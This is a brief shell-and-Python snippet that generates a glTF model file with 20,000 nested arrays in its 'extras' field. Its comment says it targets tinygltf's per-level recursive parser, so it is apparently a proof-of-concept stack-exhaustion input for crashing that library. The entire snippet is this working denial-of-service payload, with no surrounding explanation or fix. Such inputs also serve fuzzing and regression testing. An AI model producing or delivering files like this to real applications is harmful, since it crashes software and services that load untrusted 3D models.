# A glTF whose extras nest 20 000 arrays deep (tinygltf's parser recurses per level).
python3 - <<'PY'
depth = 20000
open("model.gltf", "w").write('{"asset": {"version": "2.0"}, "extras": ' + "[" * depth + "]" * depth + "}")
PY
